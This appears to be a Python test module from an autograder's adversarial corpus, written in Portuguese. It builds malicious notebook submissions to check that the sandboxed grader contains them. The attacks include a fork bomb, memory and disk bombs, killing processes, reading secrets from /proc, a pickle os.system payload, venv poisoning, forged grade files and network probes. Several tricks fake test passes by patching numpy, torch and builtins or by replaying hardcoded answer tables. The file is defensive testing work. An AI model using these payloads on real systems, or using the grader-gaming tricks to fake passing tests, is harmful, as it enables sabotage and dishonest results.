"""Corpus adversarial: ataques e falhas contra o avaliador, corrigidos num único lote.

    python -m autograder.adversarial [--casos TRECHO ...] [--manter PASTA] [--base PASTA] [--listar]

Variáveis: ``ADVERSARIAL_PRAZO`` (prazo por chamada/célula no lote, padrão 5 s),
``ADVERSARIAL_ORCAMENTO`` (por submissão, 60 s), ``ADVERSARIAL_LIMITE_LOTE`` (o lote inteiro,
600 s) e ``ADVERSARIAL_BASE`` (onde criar a pasta temporária, padrão /tmp). Dentro de /tmp as
submissões e a saída já somem da caixa, que monta o seu próprio /tmp; numa base que a caixa
enxerga (por exemplo ``--base /srv``) quem as esconde é o ``ocultar`` do zigoto, que assim
também é posto à prova.

Cada caso é uma submissão da atividade ``01-atencao`` (um ataque ou um defeito) com o
resultado esperado. Quase todos partem do notebook liberado com a solução do instrutor e trocam
uma célula de solução por código malicioso; a outra célula continua correta, para conferir que
os itens cujo código está intacto continuam recebendo todos os pontos. Os demais são arquivos
malformados ou pastas com nomes estranhos.

O corpus inteiro é corrigido como UM lote, pelo caminho real da linha de comando
(``python -m autograder lote PASTA --saida SAIDA`` num subprocesso, com prazos curtos), e depois
cada ``results.json`` e o ``notas.csv`` são conferidos. Para cada caso:

* a nota nunca passa da nota honesta (o que a parte honesta da submissão ganharia), item a item;
* itens cujo código está intacto mantêm todos os pontos;
* o avaliador não quebra (nenhum "erro interno") e o relatório diz o que aconteceu (pt-BR);
* nada vaza: nem a solução, nem a suíte oculta, nem o segredo das sementes, nem a nota forjada.

E para o lote: ele termina, todos os demais alunos são corrigidos, nada é escrito fora da pasta
de saída, nenhum processo do aluno sobrevive, ninguém alcança a rede nem processos de fora.

Os ataques que matam processos (``os.kill(-1, 9)`` etc.) só rodam quando a caixa tem namespace
de PID próprio e usuário sem privilégios; sem isso são pulados, com o motivo.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import hashlib
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from autograder.notebooks import RAIZ, carregar_atividade, notebook_fonte
from autograder.variantes import codigo_de_referencia, notebook_com

SLUG = "01-atencao"
PRAZO = os.environ.get("ADVERSARIAL_PRAZO", "5")  # s por chamada/célula, no lote do corpus
ORCAMENTO = os.environ.get("ADVERSARIAL_ORCAMENTO", "60")  # s por submissão
LIMITE_LOTE = float(os.environ.get("ADVERSARIAL_LIMITE_LOTE", "600"))  # o lote inteiro
UID_CAIXA = 61000  # uid da vaga 0 (ver caixa/cliente.py); as vagas usam 61000 + n
VAGAS = 64
GLOBAIS = ["lote-terminou", "nada-fora-da-saida", "sem-processos-restantes", "rede-intocada", "sentinela-viva"]


# ============================================================================ estruturas
@dataclass
class Contexto:
    """O que os ataques precisam saber na hora de serem montados (caminhos absolutos etc.)."""

    raiz_tmp: Path
    submissoes: Path
    saida: Path
    cwd: Path  # pasta atual do processo do lote: deve continuar vazia
    apoio: Path  # arquivos do próprio corpus (sondas), fora do alcance do lote
    marca: str  # aparece no nome de todo arquivo que um ataque tenta criar
    segredo: str  # AVALIADOR_SEGREDO do lote: não pode vazar
    porta: int  # TCP em 127.0.0.1 no hospedeiro: ninguém da caixa pode conectar
    unix: str  # soquete unix abstrato no hospedeiro: idem
    isolado: bool = False  # namespaces de montagem e rede
    pid_ns: bool = False  # namespace de PID próprio e usuário sem privilégios
    motivo_isolamento: str = ""


@dataclass
class Caso:
    nome: str  # também o nome da pasta do aluno (salvo quando ``aluno`` é dado)
    descricao: str  # pt-BR
    construir: Callable[[Contexto, Path], None]  # grava a submissão em <submissoes>/<aluno>/<slug>/
    intactos: tuple[str, ...] = ()  # itens com código intacto: pontos cheios
    zerados: tuple[str, ...] = ()  # itens que não podem ganhar ponto algum
    minimo: dict[str, float] = field(default_factory=dict)
    maximo: dict[str, float] = field(default_factory=dict)
    nota_maxima: float | None = None  # teto extra da nota total
    mensagens: tuple[str | tuple[str, ...], ...] = ()  # o relatório deve conter cada trecho (ou uma das opções)
    aluno: str | None = None
    avaliado: bool = True  # False: a pasta deve ser recusada e nada gravado para ela
    aviso_lote: str | None = None  # trecho esperado na saída do lote
    requer: str | None = None  # "isolamento" | "pid"
    extra: Callable[[Contexto, dict], list[str]] | None = None
    controle: bool = False  # submissão honesta de controle (não é ataque)

    @property
    def pasta_aluno(self) -> str:
        return self.aluno if self.aluno is not None else self.nome


@dataclass
class ResultadoCaso:
    nome: str
    descricao: str
    situacao: str = "contido"  # contido | falhou | pulado
    falhas: list[str] = field(default_factory=list)
    motivo: str = ""
    nota: float | None = None
    pontos: dict[str, float] = field(default_factory=dict)
    segundos: float | None = None
    resumo: str = ""
    controle: bool = False


@dataclass
class Relatorio:
    casos: dict[str, ResultadoCaso] = field(default_factory=dict)
    globais: dict[str, list[str]] = field(default_factory=dict)
    tentados: int = 0
    contidos: int = 0
    pulados: int = 0
    controles: int = 0
    segundos_total: float = 0.0
    segundos_lote: float = 0.0
    mais_lento: tuple[str, float] = ("-", 0.0)
    codigo_lote: int | None = None
    saida_lote: str = ""
    resumo: list[str] = field(default_factory=list)  # os números do corpus, prontos para imprimir

    @property
    def falhas(self) -> list[str]:
        f = [f"{n}: {x}" for n, r in self.casos.items() for x in r.falhas]
        return f + [f"{n}: {x}" for n, xs in self.globais.items() for x in xs]


# ============================================================================ código de apoio
def _ref(gid: str) -> str:
    return codigo_de_referencia(SLUG, gid).strip("\n") + "\n"


SOFTMAX_ERRADA = """
def softmax(z, eixo=-1):
    z = np.asarray(z, dtype=float)
    return np.ones_like(z) / z.shape[eixo]
"""

# Ataque seguido da solução honesta: ``softmax`` faz o ataque e depois o cálculo certo.
_EMBRULHO = """
_softmax_honesta = softmax


def softmax(z, eixo=-1):
{ataque}
    return _softmax_honesta(z, eixo)
"""


def _embrulhar(ataque: str) -> str:
    return _ref("softmax") + _EMBRULHO.format(ataque=ataque.rstrip("\n"))


def _cabecalho(ctx: Contexto) -> str:
    valores = {
        "raiz": str(RAIZ),
        "saida": str(ctx.saida),
        "submissoes": str(ctx.submissoes),
        "marca": ctx.marca,
        "porta": ctx.porta,
        "unix": ctx.unix,
        "apoio": str(ctx.apoio),
    }
    return f"_ADV = {valores!r}\n"


def _gravar_nb(nb: dict, pasta: Path, nome: str | None = None) -> Path:
    pasta.mkdir(parents=True, exist_ok=True)
    destino = pasta / (nome or f"{SLUG}.ipynb")
    destino.write_text(json.dumps(nb, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    return destino


def _com(celulas: dict[str, str] | Callable[[Contexto], dict[str, str]]) -> Callable[[Contexto, Path], None]:
    """Construtor: o notebook liberado com estas células (as demais com a solução do instrutor)."""

    def construir(ctx: Contexto, pasta: Path) -> None:
        valor = celulas(ctx) if callable(celulas) else celulas
        _gravar_nb(notebook_com(SLUG, valor), pasta)

    return construir


def _celula(nb: dict, gid: str) -> int:
    for i, c in enumerate(nb["cells"]):
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid:
            return i
    raise KeyError(gid)


def _bruto(dados: bytes | Callable[[], bytes]) -> Callable[[Contexto, Path], None]:
    def construir(_ctx: Contexto, pasta: Path) -> None:
        pasta.mkdir(parents=True, exist_ok=True)
        (pasta / f"{SLUG}.ipynb").write_bytes(dados() if callable(dados) else dados)

    return construir


def _correto(_ctx: Contexto, pasta: Path) -> None:
    _gravar_nb(notebook_com(SLUG, {}), pasta)


# ------------------------------------------------------------------ ataques: código
LACO = """
def softmax(z, eixo=-1):
    while True:
        pass
"""

LACO_CELULA = "while True:\n    pass\n\n"

LACO_ATENCAO = """
def atencao_produto_escalar(Q, K, V, mascara=None):
    while True:
        pass
"""

BOMBA_MEMORIA_FUNCAO = """
def softmax(z, eixo=-1):
    blocos = []
    while True:
        blocos.append(np.zeros(2**25))
"""

BOMBA_MEMORIA_CELULA = """
_blocos = []
while True:
    _blocos.append(np.ones(2**24))
"""

BOMBA_FORK = """
import os


def softmax(z, eixo=-1):
    if os.getuid() == 0:
        raise RuntimeError("o corpus não roda este ataque como root")
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""


def _disco_cheio(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + """
import os

_pastas = [".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", _ADV["saida"], _ADV["submissoes"],
           _ADV["raiz"], _ADV["apoio"], os.path.expanduser("~"), "/"]
try:
    with open("grande-" + _ADV["marca"], "wb") as _f:
        _f.write(b"0" * (256 << 20))  # 256 MiB num arquivo só (o teto de arquivo é 16 MiB)
except (OSError, MemoryError):
    pass
for _pasta in _pastas:
    for _i in range(64):
        try:
            with open(os.path.join(_pasta, f"{_ADV['marca']}-{_i}"), "wb") as _f:
                _f.write(b"0" * (4 << 20))
        except OSError:
            break
"""
        + _ref("softmax")
    )


def _saida_celula(instrucao: str) -> str:
    return instrucao + "\n" + _ref("softmax")


def _na_funcao(*linhas: str) -> str:
    corpo = "\n".join("    " + x for x in linhas)
    return f"\ndef softmax(z, eixo=-1):\n{corpo}\n"


IGNORA_SIGTERM = """
import signal


def softmax(z, eixo=-1):
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM, signal.SIGUSR1):
        signal.signal(s, signal.SIG_IGN)
    while True:
        pass
"""

MATA_PAI = _embrulhar(
    """    import os, signal
    if os.getuid() >= 61000:  # defesa extra: nunca com privilégios
        os.kill(os.getppid(), signal.SIGKILL)"""
)

MATA_TODOS = _embrulhar(
    """    import os, signal
    if os.getuid() >= 61000:  # defesa extra: nunca com privilégios
        filho = os.fork()
        if filho == 0:
            try:
                os.kill(-1, signal.SIGKILL)
                os.kill(os.getppid(), signal.SIGKILL)
            finally:
                os._exit(0)
        os.waitpid(filho, 0)
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass"""
)

PATCH_NUMPY = (
    """
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.array_equiv = lambda *a, **k: True
np.all = lambda *a, **k: True
"""
    + SOFTMAX_ERRADA
)

PATCH_NUMPY_TESTING = (
    """
import numpy.testing
for _nome in ("assert_allclose", "assert_array_almost_equal", "assert_array_equal", "assert_equal",
              "assert_almost_equal"):
    setattr(np.testing, _nome, lambda *a, **k: None)
"""
    + SOFTMAX_ERRADA
)

PATCH_TORCH = (
    """
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, outro: torch.ones(self.shape, dtype=torch.bool)
"""
    + SOFTMAX_ERRADA
)

PATCH_TORCH_TESTING = (
    """
import torch
import torch.testing
torch.testing.assert_close = lambda *a, **k: None
torch.testing.assert_allclose = lambda *a, **k: None
"""
    + SOFTMAX_ERRADA
)

PATCH_BUILTINS = (
    """
import builtins
_isinstance = builtins.isinstance
builtins.abs = lambda x: 0
builtins.all = lambda *a: True
builtins.any = lambda *a: True
builtins.isinstance = lambda o, t: True
"""
    + SOFTMAX_ERRADA
)

EQ_SEMPRE = """
class _Igual:
    def __eq__(self, outro):
        return True

    def __ne__(self, outro):
        return False

    def __bool__(self):
        return True

    def __array__(self, dtype=None, copy=None):
        return np.zeros(3)

    def __len__(self):
        return 3


def softmax(z, eixo=-1):
    return _Igual()
"""

SUBCLASSE_NDARRAY = """
class _Trapaca(np.ndarray):
    def __eq__(self, outro):
        return np.ones(np.shape(self), dtype=bool)

    def __array_finalize__(self, obj):
        pass


def softmax(z, eixo=-1):
    return np.zeros(np.shape(z)).view(_Trapaca)
"""

SUBCLASSE_TENSOR = """
import torch


class _TensorTrapaca(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True


def softmax(z, eixo=-1):
    return torch.zeros(np.shape(z)).as_subclass(_TensorTrapaca)
"""


def _reduce(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + """
import os


class _Carga:
    def __reduce__(self):
        return (os.system, ("touch " + _ADV["apoio"] + "/reduce-" + _ADV["marca"],))


def softmax(z, eixo=-1):
    return _Carga()
"""
    )


DTYPE_OBJETO = (
    EQ_SEMPRE.split("def softmax")[0]
    + """
def softmax(z, eixo=-1):
    return np.array([_Igual() for _ in range(np.size(z))], dtype=object).reshape(np.shape(z))
"""
)

RETORNO_GIGANTE = _na_funcao("return np.zeros(2**26 + 1)")

ESTRUTURA_PROFUNDA = """
def softmax(z, eixo=-1):
    v = []
    for _ in range(100_000):
        v = [v]
    return v
"""


# ------------------------------------------------------------------ ataques: vazamentos
_FALLBACK_VAZOU = """
def softmax(z, eixo=-1):
    if _achados:
        raise RuntimeError("VAZOU: " + repr(_achados[:5]))
    z = np.asarray(z, dtype=float)
    return np.ones_like(z) / z.shape[eixo]
"""


def _ler_solucao(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + """
import json
import os

_achados = []
_codigo_ref = None
_raiz = _ADV["raiz"]
_alvos = [
    "autograder/suites/01-atencao/test_01_atencao.py",
    "autograder/suites/01-atencao/variantes.py",
    "source/01-atencao/01-atencao.ipynb",
    "release/01-atencao/01-atencao.ipynb",
    "autograder/avaliacao.py",
    ".segredo_avaliador",
]
for _rel in _alvos:
    try:
        with open(os.path.join(_raiz, _rel), encoding="utf-8", errors="replace") as _f:
            _texto = _f.read()
    except Exception:
        continue
    _achados.append(_rel)
    if _rel.startswith("source/"):
        for _c in json.loads(_texto)["cells"]:
            if _c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax":
                _codigo_ref = "".join(_c["source"])
for _mod in ("autograder.suites", "autograder.avaliacao", "autograder.notebooks", "autograder.variantes"):
    try:
        __import__(_mod)
        _achados.append(_mod)
    except Exception:
        pass
for _base, _dirs, _arqs in os.walk(_raiz):
    _dirs[:] = [d for d in _dirs if d != ".venv"]
    _achados += [os.path.join(_base, a) for a in _arqs]
try:
    _achados += [p for p in os.listdir(_raiz) if p != ".venv"]
except OSError:
    pass
if _codigo_ref:
    exec(_codigo_ref)
else:
"""
        + "\n".join("    " + x for x in _FALLBACK_VAZOU.strip("\n").splitlines())
        + "\n"
    )


def _ler_outros(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + """
import glob
import json
import os

_achados = []
_codigo = None
for _nb in glob.glob(os.path.join(_ADV["submissoes"], "*", "*", "*.ipynb")):
    _achados.append(_nb)
    try:
        with open(_nb, encoding="utf-8") as _f:
            for _c in json.load(_f)["cells"]:
                if _c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax":
                    _codigo = _codigo or "".join(_c["source"])
    except Exception:
        pass
for _base, _dirs, _arqs in os.walk(_ADV["saida"]):  # relatórios já gravados de outros alunos
    _achados += [os.path.join(_base, a) for a in _arqs]
if _codigo and "raise NotImplementedError" not in _codigo:
    exec(_codigo)
else:
"""
        + "\n".join("    " + x for x in _FALLBACK_VAZOU.strip("\n").splitlines())
        + "\n"
    )


LER_SEGREDO = (
    """
import os

_achados = [k for k in os.environ if "SEGREDO" in k or "AVALIADOR" in k]
for _pid in ["self", "1", *[p for p in os.listdir("/proc") if p.isdigit()]]:
    for _arq in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_arq}", "rb") as _f:
                _dados = _f.read()
        except OSError:
            continue
        if b"AVALIADOR_SEGREDO" in _dados:
            _achados.append(_dados[_dados.index(b"AVALIADOR_SEGREDO"):][:120].decode("utf-8", "replace"))
"""
    + _FALLBACK_VAZOU
)


def _shell(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + """
import subprocess

_achados = []
try:
    _r = subprocess.run(
        ["/bin/sh", "-c", "cat $1/autograder/suites/01-atencao/test_01_atencao.py; ls -a $1; id", "sh", _ADV["raiz"]],
        capture_output=True, timeout=5,
    )
    _saida_shell = _r.stdout.decode("utf-8", "replace")
    if "def test_" in _saida_shell:
        _achados.append("suíte oculta lida pelo shell")
except Exception as _e:
    _saida_shell = repr(_e)
"""
        + _FALLBACK_VAZOU
    )


def _envenenar_venv(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + """
import os

_achados = []
_site = os.path.dirname(os.path.dirname(np.__file__))
for _alvo, _modo in [(os.path.join(_site, _ADV["marca"] + ".pth"), "w"), (np.__file__, "ab"),
                     (os.path.join(os.path.dirname(np.__file__), _ADV["marca"] + ".py"), "w")]:
    try:
        with open(_alvo, _modo) as _f:
            if "w" in _modo:
                _f.write("# corpus adversarial: este arquivo não deveria existir\\n")
        _achados.append(_alvo)
    except OSError:
        pass
"""
        + _FALLBACK_VAZOU
    )


def _saida_falsa(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + """
import json
import os

_falso = json.dumps({"score": 8.0, "output": _ADV["marca"] + "-nota-falsa", "tests": []})
_alvos = [
    os.path.join(_ADV["saida"], "escrever-saida-falsa", "01-atencao", "results.json"),
    os.path.join(_ADV["saida"], "aa-controle", "01-atencao", "results.json"),
    os.path.join(_ADV["saida"], "zz-falso", "01-atencao", "results.json"),
    os.path.join(_ADV["saida"], "notas.csv"),
    os.path.join(_ADV["submissoes"], "zz-controle", "01-atencao", "01-atencao.ipynb"),
    "results.json", "notas.csv", "../results.json", "/tmp/results.json",
]
for _alvo in _alvos:
    try:
        os.makedirs(os.path.dirname(_alvo) or ".", exist_ok=True)
        with open(_alvo, "w") as _f:
            _f.write(_falso if _alvo.endswith(".json") else "aluno,total\\n" + _ADV["marca"] + "-nota-falsa,8\\n")
    except OSError:
        pass
"""
        + SOFTMAX_ERRADA
    )


def _nota_falsa(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + """
import json
import os
import sys

_falso = json.dumps({"score": 8.0, "output": _ADV["marca"] + "-nota-falsa", "tests": []})
print(_falso)
print("Nota: 8/8 " + _ADV["marca"] + "-nota-falsa")
print(_falso, file=sys.stderr)
for _fluxo in (sys.__stdout__, sys.__stderr__):
    try:
        _fluxo.write(_falso + "\\n")
        _fluxo.flush()
    except Exception:
        pass
for _fd in (1, 2):
    try:
        os.write(_fd, (_falso + "\\n").encode())
    except OSError:
        pass
"""
        + SOFTMAX_ERRADA
    )


def _rede(ctx: Contexto, externa: bool) -> str:
    alvos = (
        '[(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)), (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53))]'
        if externa
        else '[(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", _ADV["porta"])), '
        '(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + _ADV["unix"])]'
    )
    return (
        _cabecalho(ctx)
        + f"""
import socket

_rede = []
for _familia, _tipo, _endereco in {alvos}:
    try:
        _s = socket.socket(_familia, _tipo)
        _s.settimeout(1.0)
        _s.connect(_endereco)
        _s.send(b"VAZOU")
        if _tipo == socket.SOCK_DGRAM:
            _s.recv(10)
        _rede.append(f"VAZOU: conectou em {{_endereco!r}}")
    except OSError as _e:
        _rede.append(f"{{_endereco!r}}: {{type(_e).__name__}}: {{_e}}")


def softmax(z, eixo=-1):
    raise RuntimeError("rede: " + "; ".join(_rede))
"""
    )


SAIDA_PRINT = _embrulhar(
    """    texto = "x" * (1 << 20)
    for _ in range(1024):  # 1 GiB por chamada
        print(texto)"""
)

SAIDA_OSWRITE = _embrulhar(
    """    import os
    bloco = b"x" * (1 << 20)
    for _ in range(1024):  # 1 GiB por chamada, direto nos descritores 1 e 2
        for fd in (1, 2):
            try:
                os.write(fd, bloco)
            except OSError:
                pass"""
)


def _thread(ctx: Contexto) -> str:
    return (
        _cabecalho(ctx)
        + _ref("softmax")
        + """
import json
import os
import threading
import time

_softmax_honesta = softmax


def _mexer(alvo, z, eixo):
    time.sleep(0.5)
    try:
        alvo[...] = _softmax_honesta(z, eixo)  # tarde demais: o avaliador já recebeu os dados
    except Exception:
        pass
    falso = json.dumps({"score": 8.0, "output": _ADV["marca"] + "-nota-falsa"})
    while True:
        for caminho in (os.path.join(_ADV["saida"], "aa-controle", "01-atencao", "results.json"),
                        os.path.join(_ADV["saida"], "thread-daemon", "01-atencao", "results.json")):
            try:
                with open(caminho, "w") as f:
                    f.write(falso)
            except OSError:
                pass
        time.sleep(0.05)


def softmax(z, eixo=-1):
    z = np.asarray(z, dtype=float)
    r = np.ones_like(z) / z.shape[eixo]
    threading.Thread(target=_mexer, args=(r, z, eixo), daemon=True).start()
    return r
"""
    )


PROTOCOLO_LIXO = """
import struct
import sys


def softmax(z, eixo=-1):
    f = sys._getframe()
    while f is not None and f.f_code.co_name != "op_chamar":
        f = f.f_back
    if f is not None:
        f.f_locals["self"].sock.sendall(struct.pack("<I", 2**31) + b"\\xff" * 64)
    return np.ones(np.shape(z))
"""

CALLBACK_FORJADO = """
import sys


def softmax(z, eixo=-1):
    f = sys._getframe()
    while f is not None and f.f_code.co_name != "op_chamar":
        f = f.f_back
    servidor, seq = f.f_locals["self"], f.f_locals["msg"]["seq"]
    referencia = servidor._callback(seq, "softmax")  # pede a softmax do instrutor ao avaliador
    return referencia(z, eixo=eixo)
"""

FECHAR_DESCRITORES = "import os\nos.closerange(3, 65536)\n" + _ref("softmax")

SEGFAULT = _na_funcao("import ctypes", "ctypes.string_at(0)")

CALLBACK_EM_LACO = """
def atencao_produto_escalar(Q, K, V, mascara=None):
    while True:
        softmax(np.zeros((64, 64)))  # cada chamada roda a softmax de referência no avaliador
"""

PROCESSO_ORFAO = """
import os
import signal
import time

if os.getuid() >= 61000:
    _filho = os.fork()
    if _filho == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                for _s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                    signal.signal(_s, signal.SIG_IGN)
                time.sleep(120)  # some sozinho, mesmo que escape
        finally:
            os._exit(0)
    os.waitpid(_filho, 0)
""" + _ref("softmax")

ERRO_COM_SURROGATE = """
import json as _json

_dumps = _json.dumps


def _dumps_ascii(*a, **k):
    k["ensure_ascii"] = True  # o texto sai escapado: o lado confiável recebe um surrogate solto
    return _dumps(*a, **k)


_json.dumps = _dumps_ascii


def softmax(z, eixo=-1):
    raise ValueError("texto com surrogate solto: \\ud800 fim")
"""


# ------------------------------------------------------------------ respostas fixas
def _respostas_fixas(_ctx: Contexto) -> dict[str, str]:
    """Tabelas com as saídas exatas das verificações visíveis; fora delas, um chute plausível."""
    ns: dict = {"np": np}
    exec(_ref("softmax"), ns)
    exec(_ref("atencao"), ns)
    sm, at = ns["softmax"], ns["atencao_produto_escalar"]

    def chave(*arrays) -> str:
        h = hashlib.sha256()
        for a in arrays:
            a = np.asarray(a)
            h.update(str((a.dtype.str, a.shape)).encode())
            h.update(np.ascontiguousarray(a).tobytes())
        return h.hexdigest()

    tab_sm = {}
    for z, eixo in [
        (np.array([1.0, 2.0, 3.0]), -1),
        (np.array([[1.0, 2.0], [3.0, 5.0]]), 0),
        (np.array([1e4, 1e4 + 1.0]), -1),
    ]:
        tab_sm[chave(z, np.array(eixo))] = sm(z, eixo).tolist()
    g = np.random.default_rng(0)
    Q, K, V = g.normal(size=(3, 4)), g.normal(size=(5, 4)), g.normal(size=(5, 2))
    g1 = np.random.default_rng(1)
    X = g1.normal(size=(4, 8))
    causal = np.tril(np.ones((4, 4), dtype=bool))
    aditiva = np.where(causal, 0.0, -np.inf)
    tab_at = {}
    for args in [
        (Q, K, V, None),
        (np.zeros((1, 4)), K, V, None),
        (np.stack([Q, Q]), np.stack([K, K]), np.stack([V, V]), None),
        (X, X, X, causal),
        (X, X, X, aditiva),
    ]:
        s, p = at(*args)
        tab_at[chave(*[a for a in args if a is not None])] = (s.tolist(), p.tolist())
    funcao_chave = """
import hashlib


def _chave(*arrays):
    h = hashlib.sha256()
    for a in arrays:
        a = np.asarray(a)
        h.update(str((a.dtype.str, a.shape)).encode())
        h.update(np.ascontiguousarray(a).tobytes())
    return h.hexdigest()
"""
    softmax = (
        funcao_chave
        + f"""
inf = float("inf")
_TABELA = {tab_sm!r}


def softmax(z, eixo=-1):
    z = np.asarray(z)
    k = _chave(z, np.array(eixo))
    if k in _TABELA:
        return np.array(_TABELA[k])
    return np.ones(z.shape) / z.shape[eixo]  # chute: distribuição uniforme
"""
    )
    atencao = (
        funcao_chave
        + f"""
inf = float("inf")
_TABELA_AT = {tab_at!r}


def atencao_produto_escalar(Q, K, V, mascara=None):
    args = [Q, K, V] + ([] if mascara is None else [mascara])
    k = _chave(*args)
    if k in _TABELA_AT:
        s, p = _TABELA_AT[k]
        return np.array(s), np.array(p)
    # chute: pesos uniformes sobre as chaves permitidas
    forma = np.broadcast_shapes(Q.shape[:-1] + (K.shape[-2],), np.shape(mascara) if mascara is not None else ())
    permitido = np.ones(forma, dtype=bool)
    if mascara is not None:
        m = np.asarray(mascara)
        permitido = np.broadcast_to(m if m.dtype == bool else np.isfinite(m), forma)
    pesos = permitido / permitido.sum(axis=-1, keepdims=True)
    return pesos @ V, pesos
"""
    )
    return {"softmax": softmax, "atencao": atencao}


# ------------------------------------------------------------------ notebooks malformados
def _nb_v3(_ctx: Contexto, pasta: Path) -> None:
    nb = notebook_com(SLUG, {})
    celulas = []
    for c in nb["cells"]:
        fonte = c["source"]
        if c["cell_type"] == "code":
            celulas.append(
                {
                    "cell_type": "code",
                    "collapsed": False,
                    "input": fonte,
                    "language": "python",
                    "metadata": c.get("metadata", {}),
                    "outputs": [],
                }
            )
        else:
            celulas.append({"cell_type": c["cell_type"], "metadata": c.get("metadata", {}), "source": fonte})
    v3 = {"metadata": {"name": SLUG}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": celulas}]}
    _gravar_nb(v3, pasta)


def _nb_utf16(_ctx: Contexto, pasta: Path) -> None:
    pasta.mkdir(parents=True, exist_ok=True)
    texto = json.dumps(notebook_com(SLUG, {}), ensure_ascii=False, indent=1)
    (pasta / f"{SLUG}.ipynb").write_bytes(texto.encode("utf-16"))


def _nb_200mb(_ctx: Contexto, pasta: Path) -> None:
    """Solução correta e uma célula com 200 MB de saída (gerado aqui, nunca versionado)."""
    nb = notebook_com(SLUG, {})
    nb["cells"].append(
        {
            "cell_type": "code",
            "execution_count": 1,
            "metadata": {},
            "outputs": [{"name": "stdout", "output_type": "stream", "text": "@@SAIDA@@"}],
            "source": "print('x' * 200_000_000)",
        }
    )
    antes, depois = json.dumps(nb, ensure_ascii=False).split('"@@SAIDA@@"')
    pasta.mkdir(parents=True, exist_ok=True)
    bloco = b"x" * (1 << 20)
    with open(pasta / f"{SLUG}.ipynb", "wb") as f:
        f.write(antes.encode() + b'"')
        for _ in range(200):
            f.write(bloco)
        f.write(b'"' + depois.encode())


def _nb_esparso(_ctx: Contexto, pasta: Path) -> None:
    """Arquivo esparso de 400 MB (não ocupa disco): tem de ser recusado pelo tamanho, sem ser lido."""
    pasta.mkdir(parents=True, exist_ok=True)
    with open(pasta / f"{SLUG}.ipynb", "wb") as f:
        f.write(b'{"cells": [')
        f.truncate(400 * 1024 * 1024)


def _nb_mexido(mexer: Callable[[dict], None]) -> Callable[[Contexto, Path], None]:
    def construir(_ctx: Contexto, pasta: Path) -> None:
        nb = notebook_com(SLUG, {})
        mexer(nb)
        _gravar_nb(nb, pasta)

    return construir


def _apagar_softmax(nb: dict) -> None:
    del nb["cells"][_celula(nb, "softmax")]


def _duplicar(errada_primeiro: bool) -> Callable[[dict], None]:
    def mexer(nb: dict) -> None:
        i = _celula(nb, "softmax")
        copia = json.loads(json.dumps(nb["cells"][i]))
        copia["source"] = SOFTMAX_ERRADA.strip("\n") + "\n"
        nb["cells"].insert(i if errada_primeiro else i + 1, copia)

    return mexer


def _virar_markdown(nb: dict) -> None:
    c = nb["cells"][_celula(nb, "softmax")]
    c["cell_type"] = "markdown"
    c.pop("outputs", None)
    c.pop("execution_count", None)


def _adulterar_pontos(nb: dict) -> None:
    for gid in ("teste_softmax", "teste_atencao", "teste_mascara", "pergunta_escala"):
        nb["cells"][_celula(nb, gid)]["metadata"]["nbgrader"]["points"] = 1000


def _apagar_testes(nb: dict) -> None:
    for gid in ("teste_softmax", "teste_atencao", "teste_mascara"):
        del nb["cells"][_celula(nb, gid)]


def _celula_gigante(nb: dict) -> None:
    c = nb["cells"][_celula(nb, "softmax")]
    c["source"] = "# " + "x" * (600 * 1024) + "\n" + c["source"]


def _tipo_estranho(nb: dict) -> None:
    nb["cells"][_celula(nb, "softmax")]["cell_type"] = "\ud800código"


def _surrogate_no_codigo(nb: dict) -> None:
    c = nb["cells"][_celula(nb, "softmax")]
    c["source"] = "# comentário com surrogate solto: \ud800\n" + c["source"]


def _gravar_ascii(mexer: Callable[[dict], None]) -> Callable[[Contexto, Path], None]:
    """Como ``_nb_mexido``, mas com escapes \\uXXXX: o JSON é válido e carrega surrogates soltos."""

    def construir(_ctx: Contexto, pasta: Path) -> None:
        nb = notebook_com(SLUG, {})
        mexer(nb)
        pasta.mkdir(parents=True, exist_ok=True)
        (pasta / f"{SLUG}.ipynb").write_text(json.dumps(nb, ensure_ascii=True, indent=1), encoding="ascii")

    return construir


def _link_simbolico(_ctx: Contexto, pasta: Path) -> None:
    pasta.mkdir(parents=True, exist_ok=True)
    os.symlink(notebook_fonte(SLUG), pasta / f"{SLUG}.ipynb")


def _varios(_ctx: Contexto, pasta: Path) -> None:
    nb = notebook_com(SLUG, {})
    _gravar_nb(nb, pasta, "versao-1.ipynb")
    _gravar_nb(nb, pasta, "versao-2.ipynb")


def _fifo(_ctx: Contexto, pasta: Path) -> None:
    pasta.mkdir(parents=True, exist_ok=True)
    os.mkfifo(pasta / f"{SLUG}.ipynb")


def _arquivo_nome_invalido(ctx: Contexto, _pasta: Path) -> None:
